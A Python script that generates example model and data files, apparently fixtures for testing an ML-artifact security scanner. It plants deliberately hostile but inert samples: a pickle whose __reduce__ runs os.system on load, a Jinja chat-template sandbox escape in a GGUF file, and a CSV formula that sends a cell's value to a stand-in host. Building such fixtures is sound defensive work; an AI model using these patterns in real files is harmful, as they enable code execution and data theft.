#!/usr/bin/env python3
"""Writes the model and data files of the examples with the libraries that real systems use.

The files are committed; run this only to change them:

    python3 -m venv /tmp/examples && /tmp/examples/bin/pip install -r examples/requirements-generate.txt
    /tmp/examples/bin/python examples/generate.py

Seeds are fixed: the same versions write the same bytes. The payloads of the two files marked as hostile are inert. One
prints a word when it is loaded, the other names a class that nobody has.
"""

import hashlib
import json
import os
import pickle
import random
import sys
import types
from collections import OrderedDict
from pathlib import Path

import gguf
import joblib
import numpy as np
import pandas as pd
import torch
from safetensors.torch import save_file
from skl2onnx import to_onnx
from skl2onnx.common.data_types import FloatTensorType
from sklearn.ensemble import GradientBoostingClassifier
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import OrdinalEncoder, StandardScaler

HERE = Path(__file__).resolve().parent
LIMIT_BYTES = 200_000


def folder(*parts: str) -> Path:
    path = HERE.joinpath(*parts)
    path.mkdir(parents=True, exist_ok=True)
    return path


def sha256(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def write_digests(root: Path, paths: list[str], stale: frozenset[str] = frozenset()) -> None:
    """Writes SHA256SUMS; for a path in `stale` the digest of an older version of the file."""
    lines = []
    for path in sorted(paths):
        content = (root / path).read_bytes()
        if path in stale:
            content = b"2026-08 " + content
        lines.append(f"{hashlib.sha256(content).hexdigest()}  {path}\n")
    (root / "SHA256SUMS").write_text("".join(lines), encoding="utf-8")


def write_jsonl(path: Path, rows: list[dict]) -> None:
    path.write_text("".join(json.dumps(row, ensure_ascii=False) + "\n" for row in rows), encoding="utf-8")


def write_json(path: Path, value: object) -> None:
    path.write_text(json.dumps(value, indent=2, ensure_ascii=False) + "\n", encoding="utf-8")


# --- support-assistant -----------------------------------------------------------------------------------------------


def support_assistant() -> None:
    """No model of its own; only the digests of what it is made of."""
    root = HERE / "support-assistant"
    write_digests(root, [str(p.relative_to(root)) for name in ("data", "knowledge", "prompts")
                         for p in (root / name).iterdir()])


# --- fraud-detection -------------------------------------------------------------------------------------------------

FEATURES = ["amount_pence", "hour", "days_since_card_added", "merchant_category", "device_risk", "country_match"]
SHOPS = ["Copper Kettle Cafe", "Fenwick Road Garage", "Lantern Books", "Northgate Pharmacy", "Quayside Electrical",
         "Saddlers Yard Pets", "The Cheese Stall", "Willow Tree Flowers"]
CATEGORIES = [(5411, "Grocery shops"), (5541, "Service stations"), (5732, "Electronics"), (5812, "Restaurants"),
              (5912, "Chemists"), (5942, "Bookshops"), (5992, "Florists"), (5995, "Pet shops")]


def transactions(count: int, seed: int, first: int) -> pd.DataFrame:
    rng = np.random.default_rng(seed)
    frame = pd.DataFrame({
        "transaction_id": [f"TX{first + i:07d}" for i in range(count)],
        "card_token": [f"tok_{rng.integers(0, 16 ** 8):08x}" for _ in range(count)],
        "merchant_name": [SHOPS[i] for i in rng.integers(0, len(SHOPS), count)],
        "amount_pence": np.clip(rng.lognormal(7.6, 1.1, count), 50, 500_000).astype(int),
        "hour": rng.integers(0, 24, count),
        "days_since_card_added": rng.integers(0, 900, count),
        "merchant_category": [CATEGORIES[i][0] for i in rng.integers(0, len(CATEGORIES), count)],
        "device_risk": rng.beta(1.5, 6, count).round(3),
        "country_match": (rng.random(count) < 0.94).astype(int),
    })
    score = (0.9 * (frame.amount_pence > 9000) + 1.1 * (frame.hour < 5) + 0.8 * (frame.days_since_card_added < 20)
             + 3.0 * frame.device_risk + 1.4 * (frame.country_match == 0) + rng.normal(0, 0.4, count))
    frame["is_fraud"] = (score > 2.1).astype(int)
    return frame


class Warmup:
    """Hostile on purpose, and inert: whoever loads the pickle gets one printed line."""

    def __reduce__(self):
        return os.system, ("echo surety-example-payload",)


def vendor_checkpoint(path: Path) -> None:
    """A checkpoint that holds a whole object of the vendor's code instead of tensors."""
    module = types.ModuleType("tallow_devices.encoder")
    package = types.ModuleType("tallow_devices")

    class DeviceEncoder:
        def __init__(self) -> None:
            generator = torch.Generator().manual_seed(41)
            self.version = "3.2"
            self.table = torch.randn(64, 8, generator=generator)

    DeviceEncoder.__module__ = "tallow_devices.encoder"
    DeviceEncoder.__qualname__ = "DeviceEncoder"
    module.DeviceEncoder = DeviceEncoder
    package.encoder = module
    sys.modules["tallow_devices"], sys.modules["tallow_devices.encoder"] = package, module
    torch.save({"encoder": DeviceEncoder(), "trained": "2026-02"}, path)
    del sys.modules["tallow_devices"], sys.modules["tallow_devices.encoder"]


def fraud_detection() -> None:
    root = HERE / "fraud-detection"
    data, models = folder("fraud-detection", "data"), folder("fraud-detection", "models")

    train = transactions(480, 7, 4_100_000)
    frame = train.copy()
    frame.loc[217, "merchant_name"] = '=HYPERLINK("https://refunds.brindle.example/?t="&A219,"Refund due")'
    frame.to_csv(data / "transactions.csv", index=False)
    evaluation = transactions(240, 8, 4_200_000)
    evaluation.to_parquet(data / "transactions-evaluation.parquet", index=False)
    pd.DataFrame(CATEGORIES, columns=["code", "title"]).to_csv(data / "merchant-categories.csv", index=False)
    rng = random.Random(9)
    pd.DataFrame({
        "device": [f"dev_{rng.getrandbits(40):010x}" for _ in range(24)],
        "reason": [rng.choice(["reported stolen", "emulator", "many cards"]) for _ in range(24)],
        "added": [f"2026-{rng.randint(1, 9):02d}-{rng.randint(1, 28):02d}" for _ in range(24)],
    }).to_csv(data / "blocked-devices.csv", index=False)
    people = [("Isolde Farrow", "isolde.farrow@example.org", "07700 900214"),
              ("Bramwell Otter", "b.otter@example.com", "07700 900638"),
              ("Ngozi Halloran", "ngozi.halloran@example.org", "0117 496 0281"),
              ("Teodor Swale", "t.swale@example.net", "07700 900927"),
              ("Marguerite Pell", "m.pell@example.org", "0141 496 0613"),
              ("Ifan Drury", "ifan.drury@example.com", "07700 900075")]
    pd.DataFrame([{"case": f"CB-{2201 + i}", "transaction_id": f"TX{4_100_000 + 31 * i:07d}", "cardholder": name,
                   "email": email, "phone": phone, "outcome": ["upheld", "rejected"][i % 2]}
                  for i, (name, email, phone) in enumerate(people)]).to_csv(data / "chargebacks.csv", index=False)

    pipeline = make_pipeline(StandardScaler(), GradientBoostingClassifier(n_estimators=24, max_depth=3, random_state=7))
    pipeline.fit(train[FEATURES].to_numpy(np.float32), train.is_fraud)
    joblib.dump(pipeline, models / "fraud-score.joblib")
    onnx_model = to_onnx(pipeline, initial_types=[("features", FloatTensorType([None, len(FEATURES)]))],
                         options={"zipmap": False}, target_opset=17)
    onnx_model.producer_name = "brindle-export"
    (models / "fraud-score.onnx").write_bytes(onnx_model.SerializeToString(deterministic=True))

    encoder = OrdinalEncoder(handle_unknown="use_encoded_value", unknown_value=-1)
    encoder.fit(np.array([[name] for name in SHOPS], dtype=object))
    with (models / "merchant-encoder.pkl").open("wb") as file:
        pickle.dump({"encoder": encoder, "warmup": Warmup()}, file, protocol=4)
    vendor_checkpoint(models / "device-encoder.pt")

    # The data sets that the example declares, and its models; the manifest missed the last change of one of them.
    declared = ["transactions.csv", "transactions-evaluation.parquet", "chargebacks.csv", "merchant-categories.csv"]
    write_digests(root, [f"data/{name}" for name in declared] + [f"models/{p.name}" for p in models.glob("*.[ojp]*")],
                  stale=frozenset({"models/fraud-score.onnx"}))


# --- llm-platform ----------------------------------------------------------------------------------------------------

CHAT_TEMPLATE = (
    "{%- for message in messages %}"
    "{{- '<|' + message['role'] + '|>\\n' + message['content'] | trim + '<|end|>\\n' }}"
    "{%- endfor %}"
    "{%- if add_generation_prompt %}{{- '<|assistant|>\\n' }}{%- endif %}"
)
# Hostile on purpose, and inert: it reaches Python's classes through attributes and only prints how many there are.
HOSTILE_TEMPLATE = (
    "{%- for message in messages %}{{- message['content'] }}{%- endfor %}"
    "{%- set k = ''.__class__.__mro__[1].__subclasses__() %}{{- k | length }}"
)
WORDS = ("the a of to and in is it for on bin day council tax school road park library meeting form please you your we "
         "can be will by at from permit visit office open closed week month how when where what").split()
SPECIAL = ["<unk>", "<s>", "</s>", "<|system|>", "<|user|>", "<|assistant|>", "<|end|>"]


def chat_tensors(seed: int, vocabulary: int, width: int = 32, layers: int = 2) -> dict[str, torch.Tensor]:
    generator = torch.Generator().manual_seed(seed)

    def matrix(rows: int, columns: int) -> torch.Tensor:
        return (torch.randn(rows, columns, generator=generator) * 0.02).to(torch.float16)

    tensors = {"model.embed_tokens.weight": matrix(vocabulary, width), "lm_head.weight": matrix(vocabulary, width),
               "model.norm.weight": torch.ones(width, dtype=torch.float16)}
    for layer in range(layers):
        prefix = f"model.layers.{layer}."
        for name in ("q_proj", "k_proj", "v_proj", "o_proj"):
            tensors[f"{prefix}self_attn.{name}.weight"] = matrix(width, width)
        tensors[f"{prefix}mlp.gate_proj.weight"] = matrix(2 * width, width)
        tensors[f"{prefix}mlp.up_proj.weight"] = matrix(2 * width, width)
        tensors[f"{prefix}mlp.down_proj.weight"] = matrix(width, 2 * width)
        tensors[f"{prefix}input_layernorm.weight"] = torch.ones(width, dtype=torch.float16)
        tensors[f"{prefix}post_attention_layernorm.weight"] = torch.ones(width, dtype=torch.float16)
    return tensors


GGUF_NAMES = {"model.embed_tokens.weight": "token_embd.weight", "lm_head.weight": "output.weight",
              "model.norm.weight": "output_norm.weight"}
GGUF_PARTS = {"self_attn.q_proj": "attn_q", "self_attn.k_proj": "attn_k", "self_attn.v_proj": "attn_v",
              "self_attn.o_proj": "attn_output", "mlp.gate_proj": "ffn_gate", "mlp.up_proj": "ffn_up",
              "mlp.down_proj": "ffn_down", "input_layernorm": "attn_norm", "post_attention_layernorm": "ffn_norm"}


def gguf_name(name: str) -> str:
    if name in GGUF_NAMES:
        return GGUF_NAMES[name]
    _, _, layer, rest = name.split(".", 3)
    return f"blk.{layer}.{GGUF_PARTS[rest.removesuffix('.weight')]}.weight"


def write_gguf(path: Path, name: str, tensors: dict[str, torch.Tensor], tokens: list[str], template: str) -> None:
    writer = gguf.GGUFWriter(path, "llama")
    writer.add_name(name)
    writer.add_license("apache-2.0")
    writer.add_context_length(2048)
    writer.add_embedding_length(32)
    writer.add_block_count(2)
    writer.add_feed_forward_length(64)
    writer.add_head_count(4)
    writer.add_layer_norm_rms_eps(1e-5)
    writer.add_file_type(gguf.LlamaFileType.MOSTLY_F16)
    writer.add_tokenizer_model("llama")
    writer.add_token_list(tokens)
    writer.add_token_scores([0.0] * len(tokens))
    writer.add_token_types([gguf.TokenType.CONTROL if t in SPECIAL else gguf.TokenType.NORMAL for t in tokens])
    writer.add_bos_token_id(1)
    writer.add_eos_token_id(2)
    writer.add_chat_template(template)
    for key, tensor in tensors.items():
        array = tensor.numpy()
        writer.add_tensor(gguf_name(key), array.astype(np.float32) if array.ndim == 1 else array)
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def llm_platform() -> None:
    root = HERE / "llm-platform"
    chat = folder("llm-platform", "models", "saltmarsh-chat")
    adapter = folder("llm-platform", "models", "council-adapter")
    legacy = folder("llm-platform", "models", "legacy-embedder")
    models, data = root / "models", folder("llm-platform", "data")

    tokens = SPECIAL + WORDS
    tensors = chat_tensors(51, len(tokens))
    save_file(tensors, chat / "model.safetensors", metadata={"format": "pt"})
    write_json(chat / "config.json", {
        "architectures": ["LlamaForCausalLM"], "model_type": "llama", "vocab_size": len(tokens), "hidden_size": 32,
        "intermediate_size": 64, "num_hidden_layers": 2, "num_attention_heads": 4, "num_key_value_heads": 4,
        "max_position_embeddings": 2048, "rms_norm_eps": 1e-5, "torch_dtype": "float16", "bos_token_id": 1,
        "eos_token_id": 2, "tie_word_embeddings": False})
    write_json(chat / "generation_config.json", {"bos_token_id": 1, "eos_token_id": 2, "do_sample": True,
                                                 "temperature": 0.4, "top_p": 0.9, "max_new_tokens": 512})
    write_json(chat / "tokenizer.json", {
        "version": "1.0", "truncation": None, "padding": None,
        "added_tokens": [{"id": i, "content": t, "single_word": False, "lstrip": False, "rstrip": False,
                          "normalized": False, "special": True} for i, t in enumerate(SPECIAL)],
        "normalizer": {"type": "Lowercase"}, "pre_tokenizer": {"type": "Whitespace"}, "post_processor": None,
        "decoder": None, "model": {"type": "WordLevel", "vocab": {t: i for i, t in enumerate(tokens)},
                                   "unk_token": "<unk>"}})
    write_json(chat / "tokenizer_config.json", {
        "tokenizer_class": "PreTrainedTokenizerFast", "bos_token": "<s>", "eos_token": "</s>", "unk_token": "<unk>",
        "model_max_length": 2048, "clean_up_tokenization_spaces": False, "chat_template": CHAT_TEMPLATE})
    write_gguf(models / "saltmarsh-chat-f16.gguf", "saltmarsh-chat", tensors, tokens, CHAT_TEMPLATE)
    write_gguf(models / "rerank-mini.gguf", "rerank-mini", chat_tensors(52, len(tokens)), tokens, HOSTILE_TEMPLATE)

    generator = torch.Generator().manual_seed(53)
    lora = {}
    for layer in range(2):
        for name in ("q_proj", "v_proj"):
            prefix = f"base_model.model.model.layers.{layer}.self_attn.{name}"
            lora[f"{prefix}.lora_A.weight"] = torch.randn(4, 32, generator=generator) * 0.02
            lora[f"{prefix}.lora_B.weight"] = torch.randn(32, 4, generator=generator) * 0.02
    save_file(lora, adapter / "adapter_model.safetensors", metadata={"format": "pt"})
    write_json(adapter / "adapter_config.json", {
        "peft_type": "LORA", "base_model_name_or_path": "models/saltmarsh-chat", "task_type": "CAUSAL_LM", "r": 4,
        "lora_alpha": 8, "lora_dropout": 0.05, "bias": "none", "target_modules": ["q_proj", "v_proj"],
        "inference_mode": True})

    generator = torch.Generator().manual_seed(54)
    state = OrderedDict([("embedding.weight", torch.randn(256, 16, generator=generator)),
                         ("projection.weight", torch.randn(16, 16, generator=generator)),
                         ("projection.bias", torch.zeros(16))])
    torch.save(state, legacy / "pytorch_model.bin")

    rng = random.Random(55)
    services = ["garden waste", "a parking permit", "council tax", "a library card", "a school place", "a skip licence"]
    asks = ["How do I apply for {}?", "What does {} cost?", "Who can help me with {}?", "How long does {} take?"]
    replies = ["You can apply on the council's website under “{}”. The form takes about ten minutes.",
               "The price is on the page “{}”. Some residents pay less; the page says who.",
               "The customer service desk helps with “{}” on weekdays from nine to five."]
    pairs = [(ask.format(s), rng.choice(replies).format(s)) for s in services for ask in asks]
    rng.shuffle(pairs)
    write_jsonl(data / "adapter-train.jsonl",
                [{"messages": [{"role": "user", "content": q}, {"role": "assistant", "content": a}]} for q, a in pairs[:18]])
    write_jsonl(data / "evaluation-questions.jsonl", [{"question": q, "expected": a} for q, a in pairs[18:]])

    write_digests(root, [str(p.relative_to(root)) for p in [*models.rglob("*"), *data.rglob("*")]
                         if p.suffix in (".safetensors", ".gguf", ".bin", ".json", ".jsonl")])


# --- open-model ------------------------------------------------------------------------------------------------------

BUCKETS, CLASSES = 512, ["plain", "standard", "difficult"]
TEXTS = {
    "plain": ["Put your {a} out on {d}.", "The {a} is open from nine.", "You can call us about the {a}.",
              "Bring the {a} with you on {d}.", "We will look at your {a} on {d}."],
    "standard": ["You should apply for the {a} at least two weeks before {d}.",
                 "If the {a} has not arrived by {d}, contact the office that issued it.",
                 "Most people receive a decision about the {a} within ten working days."],
    "difficult": ["Notwithstanding the foregoing, the {a} shall be deemed discharged upon receipt by the authority on {d}.",
                  "Applicants in respect of the {a} are required to furnish substantiating documentation prior to {d}.",
                  "The authority reserves discretion to determine eligibility for the {a} pursuant to the regulations."],
}
THINGS = ["permit", "recycling", "licence", "form", "grant", "certificate", "parcel", "library card", "refund", "notice"]
DAYS = ["Monday", "Tuesday", "Wednesday", "Thursday", "Friday"]


def features(text: str) -> torch.Tensor:
    """Counts of character trigrams in 512 buckets; the same as in readability.py of the example."""
    counts = torch.zeros(BUCKETS)
    padded = f"  {text.lower()} "
    for i in range(len(padded) - 2):
        digest = hashlib.blake2b(padded[i:i + 3].encode(), digest_size=4).digest()
        counts[int.from_bytes(digest, "little") % BUCKETS] += 1
    return counts / max(1.0, float(counts.sum()))


def open_model() -> None:
    root = HERE / "open-model"
    data, model = folder("open-model", "data"), folder("open-model", "model")
    rng = random.Random(61)
    rows = []
    for number in range(180):
        label = CLASSES[number % 3]
        text = rng.choice(TEXTS[label]).format(a=rng.choice(THINGS), d=rng.choice(DAYS))
        if rng.random() < 0.08:  # Two readers disagreed.
            label = CLASSES[(CLASSES.index(label) + 1) % 3]
        rows.append({"id": f"r{number:04d}", "text": text, "label": label})
    rng.shuffle(rows)
    write_jsonl(data / "train.jsonl", rows[:140])
    write_jsonl(data / "test.jsonl", rows[140:])

    torch.manual_seed(62)
    torch.set_num_threads(1)
    layer = torch.nn.Linear(BUCKETS, len(CLASSES))
    inputs = torch.stack([features(r["text"]) for r in rows[:140]])
    targets = torch.tensor([CLASSES.index(r["label"]) for r in rows[:140]])
    optimizer = torch.optim.Adam(layer.parameters(), lr=0.5)
    for _ in range(120):
        optimizer.zero_grad()
        torch.nn.functional.cross_entropy(layer(inputs), targets).backward()
        optimizer.step()
    tests = torch.stack([features(r["text"]) for r in rows[140:]])
    expected = torch.tensor([CLASSES.index(r["label"]) for r in rows[140:]])
    accuracy = float((layer(tests).argmax(1) == expected).float().mean())
    print(f"open-model: accuracy {accuracy:.3f} on {len(tests)} held-out sentences")
    save_file({"classifier.weight": layer.weight.detach().to(torch.float16).contiguous(),
               "classifier.bias": layer.bias.detach().to(torch.float16)},
              model / "model.safetensors", metadata={"format": "pt"})
    write_json(model / "config.json", {"model_type": "trigram-readability", "version": "1.2.0", "buckets": BUCKETS,
                                       "classes": CLASSES, "hash": "blake2b-32-le", "lowercase": True})
    write_digests(root, ["model/model.safetensors", "model/config.json", "data/train.jsonl", "data/test.jsonl"])


def main() -> int:
    if os.environ.get("PYTHONHASHSEED") != "0":  # skl2onnx numbers some names in the order of a set.
        os.execve(sys.executable, [sys.executable, *sys.argv], {**os.environ, "PYTHONHASHSEED": "0"})
    support_assistant()
    fraud_detection()
    llm_platform()
    open_model()
    too_large = False
    for name in ("fraud-detection", "llm-platform", "open-model"):
        for path in sorted((HERE / name).rglob("*")):
            if path.suffix in (".onnx", ".joblib", ".pkl", ".pt", ".bin", ".gguf", ".safetensors", ".csv", ".parquet", ".jsonl"):
                size = path.stat().st_size
                too_large |= size > LIMIT_BYTES
                print(f"{sha256(path)}  {size:7d}  {path.relative_to(HERE)}")
    return 1 if too_large else 0


if __name__ == "__main__":
    sys.exit(main())
